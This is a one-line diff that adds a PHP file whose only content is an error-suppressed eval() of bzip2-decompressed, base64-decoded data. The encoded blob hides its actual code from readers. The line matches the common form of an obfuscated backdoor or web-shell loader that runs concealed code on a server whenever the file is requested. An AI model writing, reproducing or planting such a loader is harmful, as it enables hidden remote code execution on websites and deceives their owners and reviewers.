@@ -1,0 +1,1 @@
+<?php @eval(bzdecompress(base64_decode('QlpoOTFBWSZTWfK/8OEAAA8fgATgAAgAAMwKgyIMaiAAISpNPSMI8ptJ6FGjIGjTI0mOXHz8pY8GPRRhRTDvGdIn8Iljho2LuSKcKEh5X/hwgA==')));
